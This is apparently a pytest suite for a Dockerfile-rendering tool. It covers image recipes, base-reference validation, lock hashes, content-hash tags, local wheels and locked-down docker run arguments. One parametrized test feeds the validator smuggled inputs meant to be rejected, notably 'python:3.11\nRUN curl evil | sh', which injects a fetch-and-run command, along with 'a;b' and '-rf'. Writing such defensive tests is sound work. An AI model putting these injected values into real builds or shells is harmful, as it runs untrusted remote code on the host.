"""Image recipes without Docker: base references, the shared Dockerfile body, rendering, tags,
image facts, the lock hash, planned Envs, local wheels, hosts."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys

import pytest

from edgekiln.docker import DockerEngine, EngineInfo, Mount, RunSpec, _mount_arg, write_script
from edgekiln.errors import EnvironmentFailed, UsageError
from edgekiln.images import (check_base, image_facts, local_wheels, lock_hash, pinned, pip_check_failures,
                             pip_check_known, recipes, render, render_context, resolve_build_names)
from edgekiln.resources import data_dir
from edgekiln.runners.base import Job
from edgekiln.runners.docker import DockerRunner


@pytest.mark.parametrize("ref", [
    "python:3.11-slim-bookworm", "nvcr.io/nvidia/l4t-jetpack:r36.4.0",
    "nvcr.io/nvidia/tensorrt:24.12-py3", "edgekiln/stand-in-base:bookworm",
    "localhost:5000/a/b_c:1.0", "ubuntu@sha256:" + "a" * 64, "registry.example.com/x/y"])
def test_good_base_references(ref):
    assert check_base(ref) == ref


@pytest.mark.parametrize("ref", [
    "python:3.11\nRUN curl evil | sh", "python 3.11", "", "Python:3", "a;b", "$BASE",
    'python"', "python:3.11 AS x", "-rf"])
def test_bad_base_references_never_reach_a_from_line(ref):
    with pytest.raises(UsageError):
        check_base(ref)


def test_every_recipe_has_a_pinned_base_a_lock_and_a_smoke_test():
    found = recipes()
    assert {"onnx", "torch"} <= set(found)
    for recipe in found.values():
        assert recipe.lock.is_file(), recipe.name
        assert (recipe.directory / "smoke.py").is_file(), recipe.name
        files = render(recipe, platform=recipe.platforms[0])
        dockerfile = files["Dockerfile"].decode()
        assert dockerfile.count(f"FROM {recipe.base}") >= 1
        assert "edgekiln.lock-hash=" in dockerfile and recipe.lock_hash() in dockerfile
        assert "Dockerfile.jinja" not in files


def _body(dockerfile: bytes) -> list[str]:
    """The instructions of a rendered Dockerfile (comments and the image's own apt step out)."""
    lines = [line for line in dockerfile.decode().splitlines() if not line.startswith("#")]
    if "apt-get" in "\n".join(lines):  # tflite's system packages: one RUN of three lines
        start = next(i for i, line in enumerate(lines) if "apt-get" in line) - 1
        assert lines[start].startswith("RUN ")
        del lines[start:start + 3]
    return lines


# Images that write their whole Dockerfile (images/README.md allows it) and why.
OWN_BODY = {"arm-validate": "checks a venv its arm64 base already has (pip under emulation is 50-100x "
                            "slower) and makes one only on another base"}


def test_images_share_one_dockerfile_body_and_keep_only_what_differs():
    found = recipes()
    assert not any(n.startswith("_") for n in found), "a shared template is not an image"
    bodies = {}
    for name, recipe in found.items():
        own = (recipe.directory / "Dockerfile.jinja").read_text()
        if name in OWN_BODY:
            assert own.count("FROM {{ base }}") == 1 and "edgekiln.lock-hash" in own, name
            continue
        if not recipe.local:  # NVIDIA's images (TensorRT): one stage over the system site-packages
            assert own.startswith('{% extends "_device.Dockerfile.jinja" %}'), name
            assert "FROM" not in own and "LABEL" not in own, f"{name} repeats the device body"
            assert render(recipe, platform=recipe.platforms[0])["Dockerfile"].decode().count("FROM nvcr.io/nvidia/") == 1
            continue
        assert own.startswith('{% extends "_base.Dockerfile.jinja" %}'), name
        assert "FROM" not in own and "LABEL" not in own, f"{name} repeats the shared body"
        files = render(recipe, base="debian:bookworm", platform=recipe.platforms[0])
        assert files["Dockerfile"].decode().count("FROM debian:bookworm") == 2  # the two stages
        bodies[name] = [line.replace(f'"{name}"', '"X"').replace(f"/{name}\"", '/X"')
                        for line in _body(files["Dockerfile"])
                        if "lock-hash" not in line and "edgekiln.platform" not in line]
    assert "apt-get install" in render(found["tflite"], platform="linux/amd64")["Dockerfile"].decode()
    assert "apt-get" not in render(found["onnx"], platform="linux/amd64")["Dockerfile"].decode()
    first = next(iter(bodies.values()))
    assert all(body == first for body in bodies.values()), "the stages differ between images"


def test_only_jinja_files_render_and_shared_folders_are_not_images(images_copy, tmp_path):
    (images_copy / "_shared").mkdir()
    (images_copy / "_shared" / "Dockerfile.jinja").write_text("FROM {{ base }}\n")
    (images_copy / "onnx" / "notes.txt").write_text("{{ not rendered }}\n")
    (images_copy / "onnx" / "extra.txt.jinja").write_text("{{ name | tojson }}\n")
    assert set(recipes(images_copy)) == set(recipes())
    files = render(recipes(images_copy)["onnx"], platform="linux/amd64")
    assert files["notes.txt"] == b"{{ not rendered }}\n"
    assert files["extra.txt"] == b'"onnx"\n' and "extra.txt.jinja" not in files
    # StrictUndefined: a value that is not given (the old `python`) fails the render loudly
    (images_copy / "onnx" / "extra.txt.jinja").write_text("{{ python }}\n")
    with pytest.raises(EnvironmentFailed, match="python"):
        render(recipes(images_copy)["onnx"], platform="linux/amd64")


def test_image_facts_cover_every_base_entry_and_local_is_checked(images_copy):
    facts = image_facts()
    assert facts["onnx"] == {"local": True, "platforms": ["linux/amd64", "linux/arm64"]}
    assert facts["tensorrt-x86"] == {"local": False, "platforms": ["linux/amd64"]}
    assert facts["tensorrt-jetson"]["local"] is False
    assert set(facts) >= set(recipes())
    assert all(not r.local for r in recipes().values() if r.name.startswith("tensorrt"))
    bases = images_copy / "_bases.toml"
    bases.write_text(bases.read_text() + '\n[bad]\nbase = "debian:bookworm"\nlocal = "no"\n')
    with pytest.raises(UsageError, match=r"\[bad\] local must be true or false"):
        image_facts(images_copy)


def test_one_lock_hash_by_image_name(images_copy):
    lock = images_copy / "onnx" / "requirements.txt"
    assert lock_hash("onnx", images_copy) == hashlib.sha256(lock.read_bytes()).hexdigest()
    assert lock_hash("onnx") == recipes()["onnx"].lock_hash()
    lock.unlink()
    with pytest.raises(EnvironmentFailed, match="has no requirements lock"):
        lock_hash("onnx", images_copy)


def test_pip_check_known_lines_come_from_the_lock_and_nothing_else_passes(images_copy):
    lock = images_copy / "onnx" / "requirements.txt"
    known = "wheel 1.0 has requirement numpy<=1.26.4, but you have numpy 2.4.6."
    lock.write_text(lock.read_text() + f"# pip-check-known: {known}\n")
    assert pip_check_known("onnx", images_copy) == {known}
    assert pip_check_failures([known + "\n"], {known}) == []
    other = "wheel 1.0 requires cv2, which is not installed."
    assert pip_check_failures([known, other], {known}) == [other]
    assert pip_check_known("tflite") == set()  # the other locks declare nothing


def test_images_module_neither_prints_nor_imports_targets():
    code = ("import sys, edgekiln.images; "
            "print(sorted(m for m in sys.modules if m in ('rich', 'edgekiln.targets')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_build_names_take_the_targets_platform_from_the_caller():
    uses = {"rpi": ("tflite", "linux/arm64"), "onnx": ("onnx", "linux/amd64")}
    assert resolve_build_names("rpi,torch,rpi", uses) == [("tflite", "linux/arm64"), ("torch", None)]
    assert ("openvino", None) in resolve_build_names("all", uses)
    with pytest.raises(UsageError, match="neither a target nor an image"):
        resolve_build_names("nope", uses)


@pytest.fixture()
def images_copy(tmp_path):
    root = tmp_path / "images"
    shutil.copytree(data_dir("images"), root)
    return root


def test_tag_is_a_content_hash(images_copy, tmp_path):
    kw = dict(platform="linux/amd64", images_root=images_copy, root=tmp_path / "c", wheel_dirs=[])
    a = render_context("onnx", **kw)
    assert a.tag == render_context("onnx", **kw).tag
    assert a.tag.startswith("edgekiln/onnx:") and len(a.tag.split(":")[1]) == 12
    assert (a.directory / "Dockerfile").is_file() and (a.directory / "wheelhouse").is_dir()
    assert render_context("onnx", base="debian:bookworm", **kw).tag != a.tag
    assert render_context("onnx", **{**kw, "platform": "linux/arm64"}).tag != a.tag
    planned = render_context("onnx", base="debian:bookworm", **{**kw, "root": tmp_path / "dry"},
                             write=False)
    assert not (tmp_path / "dry").exists(), "computing a tag writes nothing"
    assert planned.tag == render_context("onnx", base="debian:bookworm", **kw).tag
    lock = images_copy / "onnx" / "requirements.txt"
    lock.write_text(lock.read_text() + "extra-package==1.0\n")
    changed = render_context("onnx", **kw)
    assert changed.tag != a.tag and changed.lock_hash != a.lock_hash


def test_planned_env_gives_the_command_without_building(images_copy, tmp_path):
    """The dry run's commands: planned_env needs no build and writes no context (the equality
    with a real prepare() is tested on an engine in tests/docker/test_images.py)."""
    engine = DockerEngine("unix:///nonexistent/edgekiln.sock")
    engine.info = EngineInfo("unix:///nonexistent/edgekiln.sock", "0", "0", "linux/amd64", "0")
    runner = DockerRunner(engine=engine, base_image="debian:bookworm", copy=False,
                          cache_root=tmp_path / "cache", images_root=images_copy)
    env = runner.planned_env("tflite", platform="linux/arm64")
    ctx = render_context("tflite", base="debian:bookworm", platform="linux/arm64",
                         images_root=images_copy, write=False)
    assert (env.runner, env.ref, env.platform, env.lock_hash) == (
        "docker", ctx.tag, "linux/arm64", ctx.lock_hash)
    assert not (tmp_path / "cache").exists()
    job = Job(root=tmp_path / "job", inputs={"model": tmp_path / "m.onnx", "calib": None, "val": None})
    argv = runner.command(env, job, "steps/02-rpi-int8-convert.py")
    assert argv[:2] == ["docker", "-H"] and "run" in argv
    assert argv[argv.index(ctx.tag) + 1:] == ["/opt/venv/bin/python", "steps/02-rpi-int8-convert.py"]
    assert argv[argv.index("--platform") + 1] == "linux/arm64"
    assert runner.planned_env("onnx").platform == "linux/amd64"  # no platform: the engine's


def test_unknown_platform_and_image(images_copy, tmp_path):
    with pytest.raises(UsageError, match="not made for"):
        render_context("onnx", platform="linux/s390x",
                       images_root=images_copy, root=tmp_path)
    with pytest.raises(UsageError, match="unknown image"):
        render_context("nope", images_root=images_copy, root=tmp_path)


def test_local_wheels_match_pins_and_platform(tmp_path):
    house = tmp_path / "wheels"
    house.mkdir()
    for name in ["torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl",
                 "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_aarch64.whl",
                 "torch-2.12.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl",
                 "typing_extensions-4.16.0-py3-none-any.whl", "other-1.0-py3-none-any.whl"]:
        (house / name).write_bytes(b"x")
    lock = tmp_path / "requirements.txt"
    lock.write_text("# lock\ntorch==2.13.0\ntyping-extensions==4.16.0 ; python_version>'3'\n")
    assert pinned(lock) == {"torch": "2.13.0", "typing-extensions": "4.16.0"}
    names = [w.name for w in local_wheels(lock, "linux/amd64", [house])]
    assert names == ["torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl",
                     "typing_extensions-4.16.0-py3-none-any.whl"]
    arm = [w.name for w in local_wheels(lock, "linux/arm64", [house])]
    assert "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_aarch64.whl" in arm
    lock.write_text("torch==2.13.0+cu130\n")
    assert local_wheels(lock, "linux/amd64", [house]) == []


def test_run_argv_is_locked_down_and_scripts_quote(tmp_path):
    eng = DockerEngine("ssh://me@box")
    spec = RunSpec(image="edgekiln/onnx:abc", command=("python", "a b.py"), step="01 x",
                   mounts=(Mount(tmp_path / "m,odel.onnx", "/in/model/m,odel.onnx"),),
                   env={"EKIT_PATHS": '{"model": "/in/model/x"}'}, user="1000:1000",
                   memory="1g", platform="linux/arm64")
    argv = eng.run_argv(spec, "edgekiln-x-1")
    assert argv[:3] == ["docker", "-H", "ssh://me@box"]
    assert argv[argv.index("--network") + 1] == "none"
    assert argv[argv.index("--user") + 1] == "1000:1000"
    assert argv[argv.index("--platform") + 1] == "linux/arm64"
    assert "--privileged" not in argv and "ALL" in argv
    assert _mount_arg(spec.mounts[0]).startswith('type=bind,"source=')
    assert "readonly" in _mount_arg(spec.mounts[0])
    script = write_script(tmp_path / "s.sh", [argv], "test")
    assert script.stat().st_mode & stat.S_IXUSR
    assert "'a b.py'" in script.read_text()
    assert "--network" not in eng.create_argv(spec, "n")[:3]


def test_targets_and_images_tell_one_truth_about_platforms(tmp_path):
    """`edgekiln images` lists every image once per platform it can be built for, so the
    (image, platform) that `edgekiln targets` names is a row of it (no engine here: built None)."""
    env = {**os.environ, "DOCKER_HOST": f"unix://{tmp_path}/no.sock",
           "EDGEKILN_CACHE": str(tmp_path / "cache")}
    cli = [sys.executable, "-m", "edgekiln.cli"]
    targets = json.loads(subprocess.run(cli + ["targets", "--json"], env=env,
                                                      capture_output=True, check=True).stdout)
    rows = json.loads(subprocess.run(cli + ["images", "--json"], env=env,
                                                   capture_output=True, check=True).stdout)
    listed = {(r["name"], r["platform"]) for r in rows}
    assert {(t["image"], t["platform"]) for t in targets} <= listed
    assert ("tflite", "linux/arm64") in listed and ("tflite", "linux/amd64") in listed
    assert all(r["built"] is None and r["built_platform"] is None for r in rows)
